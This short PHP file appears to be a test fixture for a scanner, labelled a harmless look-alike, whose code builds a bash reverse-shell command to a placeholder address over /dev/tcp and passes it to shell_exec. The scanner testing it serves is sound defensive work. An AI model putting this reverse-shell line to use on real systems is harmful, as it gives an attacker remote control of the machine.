<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
$host = '192.0.2.7';
$cmd = "bash -c 'bash -i >& /dev/tcp/" . $host . "/443 0>&1'";
shell_exec($cmd);
